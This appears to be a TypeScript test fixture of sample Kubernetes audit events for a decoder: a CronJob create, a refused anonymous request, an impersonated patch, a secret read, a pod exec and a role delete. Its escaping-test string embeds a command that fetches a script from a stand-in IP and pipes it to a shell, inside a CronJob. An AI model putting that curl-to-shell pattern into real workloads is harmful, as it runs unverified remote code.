import type { JsonObject } from '../../model/json.ts';

/** Times of the authored events; the envelopes around them say later ones. */
const times = (second: string) => ({
  requestReceivedTimestamp: `2026-11-24T10:00:${second}.123456Z`,
  stageTimestamp: `2026-11-24T10:00:${second}.234567Z`,
});

const annotations = (decision: string) => ({
  'authorization.k8s.io/decision': decision,
  'authorization.k8s.io/reason': '',
});

const common = { kind: 'Event', apiVersion: 'audit.k8s.io/v1' };

/** Quotes, backslashes, control characters and a character outside the basic plane, through every escaping. */
export const COMMAND = 'echo "hi\\t" && curl -s http://203.0.113.7/a?b=1&c=<d> | sh # \u00e9\u{1f4a3}\n';

export const cronJob: JsonObject = {
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata: { name: 'nightly-report', namespace: 'reports', annotations: { 'example.com/note': 'a/b~c' } },
  spec: {
    schedule: '*/5 * * * *',
    jobTemplate: {
      spec: {
        template: {
          spec: {
            containers: [{ name: 'report', image: 'busybox:1.36', command: ['/bin/sh', '-c', COMMAND] }],
            restartPolicy: 'Never',
          },
        },
      },
    },
  },
};

export const cronJobCreate: JsonObject = {
  ...common,
  level: 'RequestResponse',
  auditID: '00000000-0000-4000-8000-000000000001',
  stage: 'ResponseComplete',
  requestURI: '/apis/batch/v1/namespaces/reports/cronjobs?fieldManager=kubectl-create',
  verb: 'create',
  user: {
    username: 'robin@example.com',
    uid: 'u-1',
    groups: ['developers', 'system:authenticated'],
    extra: { 'authentication.kubernetes.io/credential-id': ['X509SHA256=00'] },
  },
  sourceIPs: ['198.51.100.7', '192.0.2.1'],
  userAgent: 'kubectl/v1.36.0 (linux/amd64) kubernetes/0000000',
  objectRef: {
    resource: 'cronjobs',
    namespace: 'reports',
    name: 'nightly-report',
    apiGroup: 'batch',
    apiVersion: 'v1',
  },
  responseStatus: { metadata: {}, code: 201 },
  requestObject: cronJob,
  responseObject: {
    ...cronJob,
    metadata: { name: 'nightly-report', namespace: 'reports', uid: '00000000-0000-4000-8000-00000000000a' },
  },
  ...times('01'),
  annotations: annotations('allow'),
};

const forbidden = { kind: 'Status', apiVersion: 'v1', metadata: {}, status: 'Failure', reason: 'Forbidden', code: 403 };

export const jobRefused: JsonObject = {
  ...common,
  level: 'RequestResponse',
  auditID: '00000000-0000-4000-8000-000000000002',
  stage: 'ResponseComplete',
  requestURI: '/apis/batch/v1/namespaces/reports/jobs',
  verb: 'create',
  user: { username: 'system:anonymous', groups: ['system:unauthenticated'] },
  sourceIPs: ['203.0.113.9'],
  userAgent: 'curl/8.0',
  objectRef: { resource: 'jobs', namespace: 'reports', apiGroup: 'batch', apiVersion: 'v1' },
  responseStatus: { metadata: {}, status: 'Failure', reason: 'Forbidden', code: 403 },
  responseObject: forbidden,
  ...times('02'),
  annotations: annotations('forbid'),
};

export const cronJobPatch: JsonObject = {
  ...common,
  level: 'Request',
  auditID: '00000000-0000-4000-8000-000000000003',
  stage: 'ResponseComplete',
  requestURI: '/apis/batch/v1/namespaces/reports/cronjobs/nightly-report',
  verb: 'patch',
  user: { username: 'kim@example.com', uid: 'u-2', groups: ['admins'] },
  impersonatedUser: { username: 'system:serviceaccount:reports:runner', groups: ['system:serviceaccounts'] },
  sourceIPs: ['192.0.2.44'],
  userAgent: 'kubectl/v1.36.0',
  objectRef: {
    resource: 'cronjobs',
    namespace: 'reports',
    name: 'nightly-report',
    uid: '00000000-0000-4000-8000-00000000000a',
    apiGroup: 'batch',
    apiVersion: 'v1',
  },
  responseStatus: { metadata: {}, code: 200 },
  requestObject: { metadata: { labels: { team: 'x' } }, spec: { suspend: false } },
  ...times('03'),
  annotations: annotations('allow'),
};

export const secretRead: JsonObject = {
  ...common,
  level: 'Metadata',
  auditID: '00000000-0000-4000-8000-000000000004',
  stage: 'ResponseComplete',
  requestURI: '/api/v1/namespaces/reports/secrets/token',
  verb: 'get',
  user: { username: 'system:serviceaccount:reports:runner', uid: 'u-3', groups: ['system:serviceaccounts'] },
  sourceIPs: ['192.0.2.10'],
  userAgent: 'app/1.0',
  objectRef: { resource: 'secrets', namespace: 'reports', name: 'token', apiVersion: 'v1' },
  responseStatus: { metadata: {}, code: 200 },
  ...times('04'),
  annotations: annotations('allow'),
};

export const podExec: JsonObject = {
  ...common,
  level: 'Metadata',
  auditID: '00000000-0000-4000-8000-000000000005',
  stage: 'ResponseStarted',
  requestURI: '/api/v1/namespaces/reports/pods/web-0/exec?command=sh&stdin=true',
  verb: 'create',
  user: { username: 'robin@example.com', groups: ['developers'] },
  sourceIPs: ['198.51.100.7'],
  userAgent: 'kubectl/v1.36.0',
  objectRef: { resource: 'pods', namespace: 'reports', name: 'web-0', apiVersion: 'v1', subresource: 'exec' },
  responseStatus: { metadata: {}, code: 101 },
  ...times('05'),
  annotations: annotations('allow'),
};

export const roleDelete: JsonObject = {
  ...common,
  level: 'Request',
  auditID: '00000000-0000-4000-8000-000000000006',
  stage: 'ResponseComplete',
  requestURI: '/apis/rbac.authorization.k8s.io/v1/clusterroles/audit-reader',
  verb: 'delete',
  user: { username: 'kim@example.com', groups: ['admins'] },
  sourceIPs: ['192.0.2.44'],
  userAgent: 'kubectl/v1.36.0',
  objectRef: {
    resource: 'clusterroles',
    name: 'audit-reader',
    apiGroup: 'rbac.authorization.k8s.io',
    apiVersion: 'v1',
  },
  responseStatus: { metadata: {}, status: 'Success', code: 200 },
  requestObject: { kind: 'DeleteOptions', apiVersion: 'meta.k8s.io/v1', propagationPolicy: 'Background', metadata: {} },
  ...times('06'),
  annotations: annotations('allow'),
};

/** One of each kind of trouble for a decoder, a CronJob create first. */
export const EVENTS: readonly JsonObject[] = [cronJobCreate, jobRefused, cronJobPatch, secretRead, podExec, roleDelete];
